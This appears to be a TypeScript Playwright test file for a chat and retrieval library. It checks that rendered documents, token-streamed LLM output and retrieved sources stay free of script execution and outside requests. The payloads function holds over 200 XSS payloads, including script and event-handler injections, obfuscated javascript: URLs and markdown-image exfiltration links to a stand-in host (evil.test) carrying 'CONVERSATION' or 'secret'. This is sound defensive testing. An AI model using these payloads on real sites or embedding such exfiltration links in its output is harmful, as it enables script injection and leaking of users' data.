import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launch, openHarness, origin } from './browser';

let browser: Browser;
beforeAll(async () => { browser = await launch(); });
afterAll(async () => { await browser.close(); });

/** XSS and exfiltration payloads, written here. `X` runs the marker that a payload executed. */
function payloads(): string[] {
  const X = 'window.__xss=(window.__xss||0)+1';
  const urls = [`javascript:${X}`, `JaVaScRiPt:${X}`, ` javascript:${X}`, `java\tscript:${X}`, `java\nscript:${X}`, `&#106;avascript:${X}`, `%6Aavascript:${X}`,
    `\u0001javascript:${X}`, `javascript&colon;${X}`, `data:text/html,<script>${X}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `vbscript:msgbox(1)`, `//evil.test/x`, `https://evil.test/leak?c=CONVERSATION`, `http://evil.test:8080/`, `file:///etc/passwd`, `blob:https://evil.test/x`];
  const html = [
    `<script>${X}</script>`, `<SCRIPT SRC=https://evil.test/x.js></SCRIPT>`, `<img src=x onerror="${X}">`, `<img src="https://evil.test/p.png">`, `<svg onload="${X}">`,
    `<svg><script>${X}</script></svg>`, `<body onload="${X}">`, `<iframe src="javascript:${X}"></iframe>`, `<iframe srcdoc="<script>${X}</script>"></iframe>`,
    `<a href="javascript:${X}">x</a>`, `<details open ontoggle="${X}">`, `<input autofocus onfocus="${X}">`, `<video><source onerror="${X}"></video>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${X}">`, `<object data="javascript:${X}">`, `<embed src="javascript:${X}">`,
    `<link rel=stylesheet href="https://evil.test/s.css">`, `<meta http-equiv="refresh" content="0;url=https://evil.test">`, `<style>@import 'https://evil.test/s.css';</style>`,
    `<div style="background:url(https://evil.test/b.png)">x</div>`, `<form action="https://evil.test"><button>go</button></form>`, `<base href="https://evil.test/">`,
    `"><script>${X}</script>`, `'><img src=x onerror=${X}>`, `</textarea><script>${X}</script>`, `<!--<script>${X}</script>-->`, `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
    `<template><script>${X}</script></template>`, `<marquee onstart="${X}">`, `<audio src=x onerror="${X}">`, `<isindex action=javascript:${X} type=image>`,
    `<x onclick="${X}">click</x>`, `<img src="x` + '`' + `onerror=${X}>`, `<scr<script>ipt>${X}</scr</script>ipt>`,
  ];
  const markdown = [
    ...urls.map((u) => `[click me](${u})`), ...urls.map((u) => `![img](${u})`), ...urls.map((u) => `<${u}>`),
    `![track](https://evil.test/pixel.gif?q=secret)`, `[![nested](https://evil.test/i.png)](https://evil.test)`, `[x](https://evil.test "title onmouseover=${X}")`,
    `\`<script>${X}</script>\``, '```html\n<script>' + X + '</script>\n```', `**<img src=x onerror=${X}>**`, `*<svg onload=${X}>*`, `# <script>${X}</script>`,
    `> <img src=x onerror=${X}>`, `- <a href=javascript:${X}>x</a>`, `[1](javascript:${X})`, `[<img src=x onerror=${X}>](https://example.org)`,
  ];
  const base = [...html, ...markdown];
  // Each payload alone, after benign text, and wrapped in Markdown emphasis: over 200 in all.
  return base.flatMap((p) => [p, `Refunds take 5 days. ${p} [1]`, `**${p}**`]);
}

describe('XSS and exfiltration: rendered documents and LLM output stay inert', () => {
  it('≥ 200 payloads, rendered as documents, streamed token by token, and through the chat pipeline: 0 executions, 0 foreign requests', async () => {
    const context = await browser.newContext();
    const foreign: string[] = [];
    context.on('request', (r) => { const u = r.url(); if (!u.startsWith(`${origin()}/`) && !u.startsWith('data:') && !u.startsWith('blob:')) foreign.push(u); });
    const page = await openHarness(browser, context);
    const all = payloads();
    expect(all.length).toBeGreaterThanOrEqual(200);
    const report = await page.evaluate(async (all) => {
      (window as unknown as { __xss: number }).__xss = 0;
      window.alert = () => { (window as unknown as { __xss: number }).__xss += 100; };
      const { renderInto } = window.threadline;
      const box = document.createElement('div');
      document.body.appendChild(box);
      const problems: string[] = [];
      const inspect = (label: string) => {
        for (const el of box.querySelectorAll('*')) {
          const tag = el.tagName.toLowerCase();
          if (!['p', 'a', 'strong', 'em', 'code', 'pre', 'ul', 'ol', 'li', 'blockquote', 'h3', 'h4', 'h5', 'h6', 'span', 'button'].includes(tag)) problems.push(`${label}: <${tag}>`);
          for (const attr of el.getAttributeNames()) {
            if (attr.startsWith('on') || ['src', 'srcdoc', 'style', 'action', 'formaction'].includes(attr)) problems.push(`${label}: ${tag}[${attr}]`);
          }
          if (tag === 'a' && !/^(https?:\/\/|#)/.test(el.getAttribute('href') ?? '')) problems.push(`${label}: a[href=${el.getAttribute('href') ?? ''}]`);
        }
      };
      // 1. As document text and as a whole answer.
      all.forEach((p, i) => { renderInto(box, p); inspect(`doc ${i}`); });
      // 2. As LLM output streamed one character at a time (payloads split across tokens).
      for (const [i, p] of all.entries()) {
        let text = '';
        for (const ch of p) { text += ch; renderInto(box, text); }
        inspect(`stream ${i}`);
      }
      // 3. Through the pipeline: poisoned documents retrieved, answered extractively, sources rendered.
      const tl = await window.threadline.createThreadline({ name: 'xss' });
      await tl.add(all.map((text, i) => ({ id: `p${i}`, text: `Refund policy note ${i}: ${text}`, format: (['text', 'markdown', 'html'] as const)[i % 3] })));
      const chat = await tl.chat();
      for (const q of ['what is the refund policy?', 'click me image track', 'script onerror svg']) {
        for await (const e of chat.ask(q)) {
          if (e.type === 'sources') for (const c of e.chunks) { renderInto(box, c.text); inspect(`source ${c.docId}`); }
          if (e.type === 'done') { renderInto(box, e.answer); inspect('answer'); }
        }
      }
      await tl.dispose();
      await new Promise((r) => setTimeout(r, 500)); // let any stray handler or load fire
      return { executed: (window as unknown as { __xss: number }).__xss, problems: problems.slice(0, 20), problemCount: problems.length };
    }, all);
    console.log(`XSS: ${all.length} payloads × (document, stream, pipeline); executions ${report.executed}; DOM problems ${report.problemCount}; foreign requests ${foreign.length}`);
    expect(report).toEqual({ executed: 0, problems: [], problemCount: 0 });
    expect(foreign).toEqual([]);
    await context.close();
  });

  it('keeps safe links, marks images, and turns citations into buttons', async () => {
    const page = await openHarness(browser, await browser.newContext());
    const html = await page.evaluate(() => {
      const box = document.createElement('div');
      window.threadline.renderInto(box, 'See [the docs](https://example.org/docs) and ![chart](https://example.org/c.png), as [1] says.\n\n- one\n- **two**\n\n```\n<b>code</b>\n```');
      return box.innerHTML;
    });
    expect(html).toContain('<a href="https://example.org/docs" rel="noopener noreferrer nofollow" target="_blank">the docs</a>');
    expect(html).toContain('<span class="tl-image">[image: chart]</span>');
    expect(html).toContain('<button type="button" class="tl-cite" data-cite="1">[1]</button>');
    expect(html).toContain('<ul><li>one</li><li><strong>two</strong></li></ul>');
    expect(html).toContain('<pre><code>&lt;b&gt;code&lt;/b&gt;</code></pre>');
  });
});
